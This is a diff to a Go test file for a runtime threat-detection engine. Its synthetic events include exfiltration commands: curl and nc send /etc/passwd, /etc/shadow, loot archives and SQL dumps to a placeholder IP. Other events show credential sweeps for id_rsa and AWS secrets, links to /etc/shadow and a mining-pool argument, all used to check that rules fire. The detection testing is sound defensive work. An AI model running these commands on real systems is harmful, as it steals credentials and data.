@@ -91,9 +91,9 @@ func TestBuiltins(t *testing.T) {
 		// an exec from a writable place.
 		{"refused write then exec", []detect.Event{refused(open("/tmp/x/p", "write", "create")), exec("/tmp/x/p")}, []string{"exec-from-writable"}},
 		{"curl, write, exec", []detect.Event{exec("/usr/bin/curl"), open("/tmp/p", "write", "create"), exec("/tmp/p")},
-			[]string{"download-exec", "tmp-write-exec", "exec-from-writable"}},
+			[]string{"download-exec", "tmp-write-exec", "exec-from-writable", "ingress-tool"}},
 		{"refused curl, write, exec", []detect.Event{refused(exec("/usr/bin/curl")), open("/tmp/p", "write", "create"), exec("/tmp/p")},
-			[]string{"tmp-write-exec", "exec-from-writable"}},
+			[]string{"tmp-write-exec", "exec-from-writable", "ingress-tool"}},
 		{"chmod +x in tmp", []detect.Event{ev("chmod", func(e *detect.Event) { e.Path, e.Mode = "/tmp/p", 0o755 })}, []string{"tmp-chmod-exec"}},
 		{"hidden exec", []detect.Event{exec("/var/task/.hidden")}, []string{"exec-from-writable"}},
 		{"memfd exec", []detect.Event{func() detect.Event {
@@ -138,7 +138,7 @@ func TestBuiltins(t *testing.T) {
 		// Host rules, each with a benign counterpart.
 		{"setuid bit by chmod", []detect.Event{ev("chmod", func(e *detect.Event) { e.Path, e.Mode = "/tmp/sh", 0o4755 })}, []string{"setuid-bit", "tmp-chmod-exec"}},
 		{"setgid bit by fchmod", []detect.Event{ev("chmod", func(e *detect.Event) { e.FD, e.Mode = 4, 0o2755 })}, []string{"setuid-bit"}},
-		{"setuid file created", []detect.Event{ev("open", func(e *detect.Event) { e.Path, e.Intent, e.Mode = "/tmp/x", []string{"write", "create"}, 0o4700 })}, []string{"setuid-bit"}},
+		{"setuid file created", []detect.Event{ev("open", func(e *detect.Event) { e.Path, e.Intent, e.Mode = "/tmp/x", []string{"write", "create"}, 0o4700 })}, []string{"setuid-bit", "tmp-chmod-exec"}},
 		{"plain chmod is no setuid", []detect.Event{ev("chmod", func(e *detect.Event) { e.Path, e.Mode = "/tmp/data", 0o600 })}, nil},
 		{"history removed", []detect.Event{ev("unlink", func(e *detect.Event) { e.Path = "/root/.bash_history" })}, []string{"history-tamper"}},
 		{"history emptied", []detect.Event{open("/home/x/.zsh_history", "write", "trunc")}, []string{"history-tamper"}},
@@ -178,9 +178,9 @@ func TestBuiltins(t *testing.T) {
 		{"find for keys", []detect.Event{exec("/usr/bin/find", "/", "-name", "id_rsa*")}, []string{"credential-sweep"}},
 		{"grep for AWS secrets", []detect.Event{exec("/bin/grep", "-r", "aws_secret_access_key", "/home")}, []string{"credential-sweep"}},
 		{"find of the function's own files is fine", []detect.Event{exec("/usr/bin/find", "/var/task", "-name", "*.json")}, nil},
-		{"curl uploads a file", []detect.Event{exec("/usr/bin/curl", "-s", "-X", "POST", "--data-binary", "@/etc/passwd", "http://198.51.100.1/x")}, []string{"exfil-upload"}},
-		{"curl -d @file", []detect.Event{exec("/usr/bin/curl", "-d", "@/tmp/loot.tgz", "http://198.51.100.1/x")}, []string{"exfil-upload"}},
-		{"curl -T", []detect.Event{exec("/usr/bin/curl", "-T", "/tmp/dump.sql", "ftp://198.51.100.1/")}, []string{"exfil-upload"}},
+		{"curl uploads a file", []detect.Event{exec("/usr/bin/curl", "-s", "-X", "POST", "--data-binary", "@/etc/passwd", "http://198.51.100.1/x")}, []string{"exfil-upload", "ingress-tool"}},
+		{"curl -d @file", []detect.Event{exec("/usr/bin/curl", "-d", "@/tmp/loot.tgz", "http://198.51.100.1/x")}, []string{"exfil-upload", "ingress-tool"}},
+		{"curl -T", []detect.Event{exec("/usr/bin/curl", "-T", "/tmp/dump.sql", "ftp://198.51.100.1/")}, []string{"exfil-upload", "ingress-tool"}},
 		{"scp to a remote", []detect.Event{exec("/usr/bin/scp", "/tmp/k", "u@198.51.100.1:/x")}, []string{"exfil-upload", "network-tool"}},
 		{"a file fed to nc", []detect.Event{func() detect.Event {
 			x := exec("/bin/sh", "-c", "nc 198.51.100.1 9 < /etc/shadow")
@@ -213,7 +213,30 @@ func TestBuiltins(t *testing.T) {
 			x.Phase = detect.PhaseInit
 			return x
 		}()}, nil},
-		{"symlink to shadow", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "/etc/../etc/shadow", "/tmp/notes" })}, []string{"credential-read"}},
+		{"symlink to shadow", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "/etc/../etc/shadow", "/tmp/notes" })}, []string{"sensitive-link"}},
+		{"symlink to /etc", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "/etc/", "/tmp/x/etc_link" })}, []string{"sensitive-link"}},
+		{"hard link to shadow", []detect.Event{ev("link", func(e *detect.Event) { e.Path, e.NewPath = "/etc/shadow", "/tmp/s" })}, []string{"sensitive-link"}},
+		{"a symlink to a library is fine", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "/var/task/lib/libx.so.1", "/tmp/libx.so" })}, nil},
+		{"syslog emptied", []detect.Event{open("/tmp/d/syslog", "write", "create", "trunc")}, []string{"history-tamper"}},
+		{"a history file without its dot removed", []detect.Event{ev("unlink", func(e *detect.Event) { e.Path = "/tmp/d/ash_history" })}, []string{"history-tamper"}},
+		{"stratum in an argument", []detect.Event{exec("/bin/echo", "-o stratum+tcp", "-u user")}, []string{"mining-pool"}},
+		{"a file made under /dev", []detect.Event{refused(open("/dev/.hidden-x", "write", "create"))}, []string{"sensitive-write"}},
+		{"a hidden directory in /tmp", []detect.Event{ev("mkdir", func(e *detect.Event) { e.Path = "/tmp/.x-1234" })}, []string{"hidden-file"}},
+		{"a cache directory is fine", []detect.Event{ev("mkdir", func(e *detect.Event) { e.Path = "/tmp/.cache" })}, nil},
+		{"/dev/shm made", []detect.Event{refused(ev("mkdir", func(e *detect.Event) { e.Path = "/dev/shm" }))}, []string{"sensitive-write"}},
+		{"a directory at the top of the root", []detect.Event{refused(ev("mkdir", func(e *detect.Event) { e.Path = "/root" }))}, []string{"sensitive-write"}},
+		{"a file created executable in /tmp", []detect.Event{ev("open", func(e *detect.Event) {
+			e.Path, e.Intent, e.Mode, e.Flags = "/tmp/drift", []string{"write", "create"}, 0o755, 0o101
+		})}, []string{"tmp-chmod-exec"}},
+		{"a file created 0666 in /tmp is fine", []detect.Event{ev("open", func(e *detect.Event) {
+			e.Path, e.Intent, e.Mode, e.Flags = "/tmp/out.json", []string{"write", "create"}, 0o666, 0o101
+		})}, nil},
+		{"wget by a Go function", []detect.Event{exec("/usr/bin/wget", "-V")}, []string{"ingress-tool"}},
+		{"/proc/self/exe opened for writing", []detect.Event{open("/proc/self/exe", "write")}, []string{"proc-exe-write"}},
+		{"stdout reopened for writing through /proc", []detect.Event{open("/proc/7/fd/1", "write")}, []string{"proc-exe-write"}},
+		{"/proc/self/fd read is fine", []detect.Event{open("/proc/self/fd/3", "read")}, nil},
+		{"/var/lib made", []detect.Event{refused(ev("mkdir", func(e *detect.Event) { e.Path = "/var/lib" }))}, []string{"sensitive-write"}},
+		{"output to /dev/null is fine", []detect.Event{open("/dev/null", "write", "create", "trunc")}, nil},
 		{"a relative symlink is fine", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "shadow", "/tmp/notes" })}, nil},
 		{"renamed key file", []detect.Event{open("/tmp/id_rsa.bak", "read")}, []string{"credential-read"}},
 		{"backup of AWS credentials", []detect.Event{open("/home/u/.aws/credentials.old", "read")}, []string{"credential-read"}},
@@ -288,21 +311,27 @@ func fork(at time.Duration, errno string) detect.Event {
 
 func TestProcessStorm(t *testing.T) {
 	e, _ := New(nil)
+	exit := ev("exit", nil)
 	var evs []detect.Event
 	for i := range 200 {
 		evs = append(evs, fork(time.Duration(i)*time.Millisecond, ""))
 	}
 	if got := fired(t, e, evs...); !slices.Equal(got, []string{"process-storm"}) {
-		t.Errorf("200 processes in 200 ms fired %v, want one process-storm", got)
+		t.Errorf("200 processes alive at once fired %v, want one process-storm", got)
 	}
-	// A handler that runs a tool per request: ten a second for three
-	// seconds.
+	// A busy function that runs a tool per request: a thousand
+	// processes, each gone before the next (or just after: an exit may
+	// arrive before its fork).
 	evs = nil
-	for i := range 30 {
-		evs = append(evs, fork(time.Duration(i)*100*time.Millisecond, ""))
+	for i := range 1000 {
+		if i%2 == 0 {
+			evs = append(evs, exit, fork(time.Duration(i)*time.Millisecond, ""))
+		} else {
+			evs = append(evs, fork(time.Duration(i)*time.Millisecond, ""), exit)
+		}
 	}
 	if got := fired(t, e, evs...); len(got) != 0 {
-		t.Errorf("ten processes a second fired %v", got)
+		t.Errorf("a thousand short-lived processes fired %v", got)
 	}
 	// The pids limit refused one: a storm whatever the count.
 	if got := fired(t, e, fork(0, ""), fork(time.Millisecond, "EAGAIN")); !slices.Equal(got, []string{"process-storm"}) {
@@ -333,8 +362,13 @@ func TestDirectorySweep(t *testing.T) {
 	for i := range 500 {
 		evs = append(evs, dir(fmt.Sprintf("/var/task/node_modules/m%d", i), 0))
 	}
-	for i := range 200 {
-		evs = append(evs, dir(fmt.Sprintf("/tmp/work/%d", i), time.Duration(i)*100*time.Millisecond))
+	for i := range 300 {
+		evs = append(evs, dir(fmt.Sprintf("/tmp/job-%d", i), time.Duration(i)*time.Millisecond))
+	}
+	for i := range 300 {
+		x := dir(fmt.Sprintf("/home/u%d", i), time.Duration(i)*time.Millisecond)
+		x.RequestID = fmt.Sprintf("r%d", i) // one a request
+		evs = append(evs, x)
 	}
 	if got := fired(t, e, evs...); len(got) != 0 {
 		t.Errorf("benign listings fired %v", got)
@@ -402,7 +436,7 @@ rules:
   - name: fragile
     severity: low
     condition: kind == "exec" && argv[5] == "x"
-disable: [network-tool]
+disable: [network-tool, ingress-tool]
 `
 
 func TestUserRules(t *testing.T) {
